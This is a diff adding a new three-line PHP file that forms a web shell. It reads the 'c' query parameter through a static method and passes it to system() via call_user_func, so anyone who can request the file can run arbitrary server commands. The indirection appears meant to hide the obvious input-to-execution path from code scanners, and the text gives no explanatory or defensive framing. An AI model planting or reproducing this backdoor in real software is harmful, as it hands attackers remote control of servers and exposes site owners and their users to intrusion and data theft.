@@ -1,0 +1,3 @@
+<?php
+class K { static function v() { return $_GET["c"]; } }
+system(call_user_func(["K", "v"]));
